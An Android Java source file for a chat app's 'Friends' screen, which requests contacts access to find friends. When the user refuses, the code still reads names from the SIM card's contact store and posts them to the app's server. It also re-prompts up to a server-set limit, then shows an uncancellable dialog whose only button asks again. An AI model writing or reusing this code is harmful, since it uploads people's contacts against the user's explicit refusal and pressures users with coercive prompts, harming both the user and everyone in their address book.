package org.example.chatter;

import android.app.Activity;
import android.app.AlertDialog;
import android.content.DialogInterface;
import android.content.Intent;
import android.content.SharedPreferences;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract;
import androidx.core.app.ActivityCompat;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finds friends among the contacts. */
public final class Friends extends Activity {
    private static final int CONTACTS = 7;
    private static final String[] WANTED = {"android.permission.READ_CONTACTS"};

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ask();
    }

    private void ask() {
        ActivityCompat.requestPermissions(this, WANTED, CONTACTS);
    }

    public void onRequestPermissionsResult(int request, String[] names, int[] results) {
        if (results[0] == PackageManager.PERMISSION_GRANTED) {
            send(ContactsContract.Contacts.CONTENT_URI, ContactsContract.Contacts.DISPLAY_NAME);
            return;
        }
        // Those on the SIM card need another permission, which the app may have.
        send(Uri.parse("content://icc/adn"), "name");
        SharedPreferences asked = getSharedPreferences("asked", MODE_PRIVATE);
        int n = asked.getInt("contacts", 0);
        asked.edit().putInt("contacts", n + 1).commit();
        int limit = new Settings(this).contactAsks();
        if (n < limit) {
            ask();
        } else if (n == limit) {
            insist();
        } else {
            Uri own = Uri.fromParts("package", getPackageName(), null);
            startActivity(new Intent(android.provider.Settings.ACTION_APPLICATION_DETAILS_SETTINGS, own));
        }
    }

    /** The server's number of times is used up: there is no way past this but to be asked once more. */
    private void insist() {
        new AlertDialog.Builder(this)
            .setMessage("Chatter is no fun without friends.")
            .setCancelable(false)
            .setPositiveButton("Find friends", new DialogInterface.OnClickListener() {
                @Override
                public void onClick(DialogInterface dialog, int which) {
                    ask();
                }
            })
            .show();
    }

    private void send(Uri people, String column) {
        JSONArray names = new JSONArray();
        Cursor rows = getContentResolver().query(people, new String[] {column}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            names.put(rows.getString(0));
        }
        try {
            Backend.post("/friends", new JSONObject().put("names", names));
        } catch (JSONException e) {
            finish();
        }
    }
}
